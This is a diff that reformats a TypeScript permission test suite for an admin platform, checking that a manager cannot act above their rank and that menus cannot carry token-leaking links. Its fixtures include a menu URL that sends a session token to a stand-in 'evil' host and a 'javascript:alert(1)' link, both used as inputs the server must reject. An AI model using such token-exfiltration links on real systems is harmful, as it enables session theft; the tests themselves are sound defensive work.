@@ -14,8 +14,28 @@ const DENIED = { code: 401, msg: '没有访问权限，请联系管理员授权'
 const md5 = 'e10adc3949ba59abbe56e057f20f883e'; // md5('123456')
 const RESET = { userPassword: md5, validatePassword: md5 };
 /** Everything a rank refusal must leave as it was. */
-const TABLES = ['base_user', 'base_user_relation', 'base_role', 'base_organize', 'base_position', 'base_group', 'base_module', 'base_module_item', 'base_system', 'base_sys_config', 'base_authorize'];
-const stealingMenu = { parentId: 'm-gis', systemId: 'sys-port', type: 7, fullName: '窃取', enCode: 'gis.steal', urlAddress: 'http://evil/steal?t=${jnpfToken}', linkTarget: '_blank' };
+const TABLES = [
+  'base_user',
+  'base_user_relation',
+  'base_role',
+  'base_organize',
+  'base_position',
+  'base_group',
+  'base_module',
+  'base_module_item',
+  'base_system',
+  'base_sys_config',
+  'base_authorize',
+];
+const stealingMenu = {
+  parentId: 'm-gis',
+  systemId: 'sys-port',
+  type: 7,
+  fullName: '窃取',
+  enCode: 'gis.steal',
+  urlAddress: 'http://evil/steal?t=${jnpfToken}',
+  linkTarget: '_blank',
+};
 
 describe.each(databases())('rank: nobody acts above their rank, on %s', (target) => {
   let t: TestApp;
@@ -53,17 +73,38 @@ describe.each(databases())('rank: nobody acts above their rank, on %s', (target)
     const adminSession = SessionService.hashToken(adminToken);
     await allRefused(
       () => manager.post('/api/permission/Users/user-admin/Actions/ResetPassword', RESET),
-      () => manager.put('/api/permission/Users/user-manager', { account: 'manager', realName: '王经理', organizeId: 'org-terminal', roleId: 'role-company-admin,role-admin' }),
+      () =>
+        manager.put('/api/permission/Users/user-manager', {
+          account: 'manager',
+          realName: '王经理',
+          organizeId: 'org-terminal',
+          roleId: 'role-company-admin,role-admin',
+        }),
       () => manager.put('/api/system/SysConfig', { sysName: 'taken' }),
       () => manager.put('/api/permission/Users/user-admin/Actions/State'),
       () => manager.delete(`/api/system/OnlineUser/${adminSession}`),
       () => manager.post('/api/system/Menu', stealingMenu),
     );
-    expect(body(await manager.put('/api/permission/Users/user-admin/Actions/State', {}, { 'accept-language': 'en-US' }))).toMatchObject({ code: 401, msg: 'No permission; ask an administrator' });
-    expect(body(await manager.put('/api/permission/Users/user-admin/Actions/State', {}, { 'accept-language': 'zh-TW' }))).toMatchObject({ code: 401, msg: '沒有訪問權限，請聯繫管理員授權' });
+    expect(body(await manager.put('/api/permission/Users/user-admin/Actions/State', {}, { 'accept-language': 'en-US' }))).toMatchObject({
+      code: 401,
+      msg: 'No permission; ask an administrator',
+    });
+    expect(body(await manager.put('/api/permission/Users/user-admin/Actions/State', {}, { 'accept-language': 'zh-TW' }))).toMatchObject({
+      code: 401,
+      msg: '沒有訪問權限，請聯繫管理員授權',
+    });
     // admin still signs in with the old password, is enabled and online; the new password is no good
     expect((await login(t.app, 'admin')).code).toBe(200);
-    expect((await t.app.inject({ method: 'POST', url: '/api/oauth/Login', headers: { 'content-type': 'application/x-www-form-urlencoded' }, payload: `account=admin&password=${md5}&grant_type=password` })).json()).toMatchObject({ code: 400 });
+    expect(
+      (
+        await t.app.inject({
+          method: 'POST',
+          url: '/api/oauth/Login',
+          headers: { 'content-type': 'application/x-www-form-urlencoded' },
+          payload: `account=admin&password=${md5}&grant_type=password`,
+        })
+      ).json(),
+    ).toMatchObject({ code: 400 });
     expect(body(await admin.get('/api/oauth/CurrentUser')).code).toBe(200);
     // the menu was not made, by manager nor (with its foreign token host) by the administrator
     expect(body(await admin.post('/api/system/Menu', stealingMenu))).toEqual({ code: 400, msg: '令牌占位符只能发往令牌主机白名单中的主机或站内地址' });
@@ -72,7 +113,9 @@ describe.each(databases())('rank: nobody acts above their rank, on %s', (target)
 
   it('refuses every user-administration action on a system administrator and on users outside the subtree', async () => {
     // opsboss sits inside the subtree (org-ops) but is on the admin list: a system administrator too
-    expect(body(await admin.post('/api/permission/Users', { account: 'opsboss', realName: '运营总监', organizeId: 'org-ops', roleId: 'role-staff' })).code).toBe(200);
+    expect(
+      body(await admin.post('/api/permission/Users', { account: 'opsboss', realName: '运营总监', organizeId: 'org-ops', roleId: 'role-staff' })).code,
+    ).toBe(200);
     await setConfig(t.services, { adminList: 'someone\nOPSBOSS' });
     const touristToken = await tokenOf(t.app, 'tourist');
     const bossToken = await tokenOf(t.app, 'opsboss', '0000');
@@ -111,7 +154,15 @@ describe.each(databases())('rank: nobody acts above their rank, on %s', (target)
   });
 
   it('lets the manager administer the users of its own subtree', async () => {
-    const created = body(await manager.post('/api/permission/Users', { account: 'opsnew', realName: '新人', organizeId: 'org-ops', roleId: 'role-staff', positionId: 'pos-operator' }));
+    const created = body(
+      await manager.post('/api/permission/Users', {
+        account: 'opsnew',
+        realName: '新人',
+        organizeId: 'org-ops',
+        roleId: 'role-staff',
+        positionId: 'pos-operator',
+      }),
+    );
     expect(created).toMatchObject({ code: 200, msg: '新建成功' });
     const user = await userRow('opsnew');
     const base = `/api/permission/Users/${user.id}`;
@@ -153,7 +204,10 @@ describe.each(databases())('rank: nobody acts above their rank, on %s', (target)
     expect((await userRow('manager')).isAdministrator).toBe(0);
 
     // rank settings: even with the configuration page granted, only a system administrator changes them
-    await t.services.db.insertInto('base_authorize').values({ id: 'test-rank-sysconfig', objectType: 'Role', objectId: 'role-company-admin', itemType: 'module', itemId: 'm-system-config' }).execute();
+    await t.services.db
+      .insertInto('base_authorize')
+      .values({ id: 'test-rank-sysconfig', objectType: 'Role', objectId: 'role-company-admin', itemType: 'module', itemId: 'm-system-config' })
+      .execute();
     try {
       await allRefused(
         () => manager.put('/api/system/SysConfig', { adminList: 'manager' }),
@@ -172,7 +226,14 @@ describe.each(databases())('rank: nobody acts above their rank, on %s', (target)
 
   it('keeps roles, positions, groups and organisations outside the subtree, and every menu, out of the manager’s reach', async () => {
     const itHead = await idOf('base_position', 'itHead');
-    const role = (patch: Record<string, unknown>) => ({ fullName: '码头角色', enCode: 'terminalRole', type: 'rtype-business', globalMark: 0, organizeIdsTree: [['org-group', 'org-terminal']], ...patch });
+    const role = (patch: Record<string, unknown>) => ({
+      fullName: '码头角色',
+      enCode: 'terminalRole',
+      type: 'rtype-business',
+      globalMark: 0,
+      organizeIdsTree: [['org-group', 'org-terminal']],
+      ...patch,
+    });
     const item = { moduleId: 'm-truck-fleet', fullName: '越权按钮', enCode: 'btn_rank' };
     await allRefused(
       // roles: global, bound elsewhere, or held by / granting more than the manager
@@ -203,7 +264,15 @@ describe.each(databases())('rank: nobody acts above their rank, on %s', (target)
       () => manager.put('/api/system/System/sys-exchange', { fullName: '数据交换平台', enCode: 'dataExchange', icon: 'icon-ym icon-ym-extend' }),
       // menus and their buttons, columns and form fields reach every user's menu
       () => manager.post('/api/system/Menu', { ...stealingMenu, urlAddress: '/index' }),
-      () => manager.put('/api/system/Menu/m-gis-map', { parentId: 'm-gis', systemId: 'sys-port', type: 7, fullName: '港区地图', enCode: 'gis.map', urlAddress: 'https://evil/x' }),
+      () =>
+        manager.put('/api/system/Menu/m-gis-map', {
+          parentId: 'm-gis',
+          systemId: 'sys-port',
+          type: 7,
+          fullName: '港区地图',
+          enCode: 'gis.map',
+          urlAddress: 'https://evil/x',
+        }),
       () => manager.put('/api/system/Menu/m-gis-map/Actions/State'),
       () => manager.delete('/api/system/Menu/m-gis-help'),
       () => manager.post('/api/system/ModuleButton', item),
@@ -220,18 +289,32 @@ describe.each(databases())('rank: nobody acts above their rank, on %s', (target)
       () => manager.put(`/api/permission/Role/${roleId}`, role({ globalMark: 1 })),
       () => manager.put(`/api/permission/Role/${roleId}`, role({ organizeIdsTree: [['org-group', 'org-it']] })),
     );
-    expect(body(await manager.put(`/api/permission/Role/${roleId}`, role({ fullName: '码头角色2', organizeIdsTree: [['org-group', 'org-terminal', 'org-ops']] }))).code).toBe(200);
+    expect(
+      body(await manager.put(`/api/permission/Role/${roleId}`, role({ fullName: '码头角色2', organizeIdsTree: [['org-group', 'org-terminal', 'org-ops']] })))
+        .code,
+    ).toBe(200);
     expect(body(await manager.put(`/api/permission/Role/${roleId}/Actions/State`)).code).toBe(200);
     expect(body(await manager.delete(`/api/permission/Role/${roleId}`)).code).toBe(200);
 
-    expect(body(await manager.post('/api/permission/Organize', { parentId: 'org-terminal', fullName: '调度部', enCode: 'CT.DISPATCH', type: 'department' })).code).toBe(200);
+    expect(
+      body(await manager.post('/api/permission/Organize', { parentId: 'org-terminal', fullName: '调度部', enCode: 'CT.DISPATCH', type: 'department' })).code,
+    ).toBe(200);
     const organizeId = await idOf('base_organize', 'CT.DISPATCH');
-    await allRefused(() => manager.put(`/api/permission/Organize/${organizeId}`, { parentId: 'org-group', fullName: '调度部', enCode: 'CT.DISPATCH', type: 'department' }));
-    expect(body(await manager.put(`/api/permission/Organize/${organizeId}`, { parentId: 'org-ops', fullName: '调度部', enCode: 'CT.DISPATCH', type: 'department' })).code).toBe(200);
+    await allRefused(() =>
+      manager.put(`/api/permission/Organize/${organizeId}`, { parentId: 'org-group', fullName: '调度部', enCode: 'CT.DISPATCH', type: 'department' }),
+    );
+    expect(
+      body(await manager.put(`/api/permission/Organize/${organizeId}`, { parentId: 'org-ops', fullName: '调度部', enCode: 'CT.DISPATCH', type: 'department' }))
+        .code,
+    ).toBe(200);
 
-    expect(body(await manager.post('/api/permission/Position', { organizeId, fullName: '调度员', enCode: 'dispatcher', type: 'ptype-operate' })).code).toBe(200);
+    expect(body(await manager.post('/api/permission/Position', { organizeId, fullName: '调度员', enCode: 'dispatcher', type: 'ptype-operate' })).code).toBe(
+      200,
+    );
     const positionId = await idOf('base_position', 'dispatcher');
-    await allRefused(() => manager.put(`/api/permission/Position/${positionId}`, { organizeId: 'org-it', fullName: '调度员', enCode: 'dispatcher', type: 'ptype-operate' }));
+    await allRefused(() =>
+      manager.put(`/api/permission/Position/${positionId}`, { organizeId: 'org-it', fullName: '调度员', enCode: 'dispatcher', type: 'ptype-operate' }),
+    );
     expect(body(await manager.put(`/api/permission/Position/${positionId}/Actions/State`)).code).toBe(200);
     expect(body(await manager.delete(`/api/permission/Position/${positionId}`)).code).toBe(200);
     expect(body(await manager.put(`/api/permission/Organize/${organizeId}/Actions/State`)).code).toBe(200);
@@ -247,10 +330,23 @@ describe.each(databases())('rank: nobody acts above their rank, on %s', (target)
       expect(body(await link('gis.bad', address)), address).toEqual(badLink);
     }
     expect(body(await link('gis.bad', 'javascript:alert(1)', 2))).toEqual(badLink);
-    expect(body(await admin.put('/api/system/Menu/m-gis-map', { parentId: 'm-gis', systemId: 'sys-port', type: 7, fullName: '港区地图', enCode: 'gis.map', urlAddress: 'javascript:alert(1)' }))).toEqual(badLink);
+    expect(
+      body(
+        await admin.put('/api/system/Menu/m-gis-map', {
+          parentId: 'm-gis',
+          systemId: 'sys-port',
+          type: 7,
+          fullName: '港区地图',
+          enCode: 'gis.map',
+          urlAddress: 'javascript:alert(1)',
+        }),
+      ),
+    ).toEqual(badLink);
     expect(body(await link('gis.bad', 'https://bi.example.com/r?t=${jnpfToken}'))).toMatchObject({ code: 400 });
     expect(await t.services.db.selectFrom('base_module').select('id').where('enCode', '=', 'gis.bad').execute()).toEqual([]);
-    expect((await t.services.db.selectFrom('base_module').select('urlAddress').where('id', '=', 'm-gis-map').executeTakeFirstOrThrow()).urlAddress).toBe('/index');
+    expect((await t.services.db.selectFrom('base_module').select('urlAddress').where('id', '=', 'm-gis-map').executeTakeFirstOrThrow()).urlAddress).toBe(
+      '/index',
+    );
 
     expect(body(await admin.put('/api/system/SysConfig', { tokenHostAllowList: 'bi.example.com, erp.example.com:8443' })).code).toBe(200);
     expect(body(await link('gis.bi', 'https://bi.example.com/r?t=${jnpfToken}')).code).toBe(200);
@@ -258,7 +354,9 @@ describe.each(databases())('rank: nobody acts above their rank, on %s', (target)
     expect(body(await link('gis.local', '/index?token=${jnpfToken}')).code).toBe(200);
     expect(body(await link('gis.erp', 'https://erp.example.com:9443/?t=${jnpfToken}')).code).toBe(400);
     // the browser gets the list with the current user, to fill the token by the same rule
-    expect(body<{ sysConfigInfo: { tokenHostAllowList: string } }>(await admin.get('/api/oauth/CurrentUser')).data?.sysConfigInfo.tokenHostAllowList).toBe('bi.example.com, erp.example.com:8443');
+    expect(body<{ sysConfigInfo: { tokenHostAllowList: string } }>(await admin.get('/api/oauth/CurrentUser')).data?.sysConfigInfo.tokenHostAllowList).toBe(
+      'bi.example.com, erp.example.com:8443',
+    );
     expect(body(await admin.put('/api/system/SysConfig', { tokenHostAllowList: 'not a host!' })).code).toBe(400);
   });
 
@@ -281,14 +379,43 @@ describe.each(databases())('rank: nobody acts above their rank, on %s', (target)
   it('writes a batch of menu items all or nothing', async () => {
     const count = async () => (await t.services.db.selectFrom('base_module_item').select('id').where('moduleId', '=', 'm-truck-fleet').execute()).length;
     const before = await count();
-    const batch = (list: { fullName: string; enCode: string }[]) => admin.post('/api/system/ModuleButton/m-truck-fleet/Actions/Batch', { list: list.map((entry) => ({ moduleId: 'm-truck-fleet', ...entry })) });
-    expect(body(await batch([{ fullName: '同名', enCode: 'btn_a' }, { fullName: '同名', enCode: 'btn_b' }]))).toEqual({ code: 400, msg: '名称不能重复' });
-    expect(body(await batch([{ fullName: '甲', enCode: 'btn_a' }, { fullName: '乙', enCode: 'btn_a' }]))).toEqual({ code: 400, msg: '编码不能重复' });
+    const batch = (list: { fullName: string; enCode: string }[]) =>
+      admin.post('/api/system/ModuleButton/m-truck-fleet/Actions/Batch', { list: list.map((entry) => ({ moduleId: 'm-truck-fleet', ...entry })) });
+    expect(
+      body(
+        await batch([
+          { fullName: '同名', enCode: 'btn_a' },
+          { fullName: '同名', enCode: 'btn_b' },
+        ]),
+      ),
+    ).toEqual({ code: 400, msg: '名称不能重复' });
+    expect(
+      body(
+        await batch([
+          { fullName: '甲', enCode: 'btn_a' },
+          { fullName: '乙', enCode: 'btn_a' },
+        ]),
+      ),
+    ).toEqual({ code: 400, msg: '编码不能重复' });
     expect(await count()).toBe(before);
-    expect(body(await batch([{ fullName: '甲', enCode: 'btn_a' }, { fullName: '乙', enCode: 'btn_b' }])).code).toBe(200);
+    expect(
+      body(
+        await batch([
+          { fullName: '甲', enCode: 'btn_a' },
+          { fullName: '乙', enCode: 'btn_b' },
+        ]),
+      ).code,
+    ).toBe(200);
     expect(await count()).toBe(before + 2);
     // a clash with a stored item at the end undoes the items before it
-    expect(body(await batch([{ fullName: '丙', enCode: 'btn_c' }, { fullName: '丁', enCode: 'btn_a' }]))).toEqual({ code: 400, msg: '编码不能重复' });
+    expect(
+      body(
+        await batch([
+          { fullName: '丙', enCode: 'btn_c' },
+          { fullName: '丁', enCode: 'btn_a' },
+        ]),
+      ),
+    ).toEqual({ code: 400, msg: '编码不能重复' });
     expect(await count()).toBe(before + 2);
   });
 });
